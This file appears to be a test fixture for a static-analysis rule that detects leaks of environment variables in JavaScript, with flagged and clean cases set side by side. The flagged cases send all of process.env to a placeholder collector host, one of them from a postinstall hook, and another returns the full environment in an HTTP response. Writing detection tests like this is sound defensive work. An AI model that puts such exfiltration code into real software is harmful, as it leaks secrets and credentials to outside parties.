const https = require("https");
const axios = require("axios");

async function postinstall() {
  // ruleid: llm/env-exfiltration
  await fetch("https://collector.example.invalid/i", { method: "POST", body: JSON.stringify(process.env) });
}

function sync() {
  const snapshot = { ...process.env, cwd: process.cwd() };
  // ruleid: llm/env-exfiltration
  return axios.post("https://collector.example.invalid/s", snapshot);
}

function debugHandler(req, res) {
  // ruleid: llm/env-exfiltration
  res.send(process.env);
}

async function callApi() {
  // ok: llm/env-exfiltration
  return fetch(`${process.env.API_URL}/v1/items`, { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });
}

function health(req, res) {
  // ok: llm/env-exfiltration
  res.send({ status: "ok", version: process.env.npm_package_version });
}

// ok: llm/env-exfiltration
https.get("https://example.com/health", { headers: { "user-agent": process.env["USER_AGENT"] ?? "app" } });
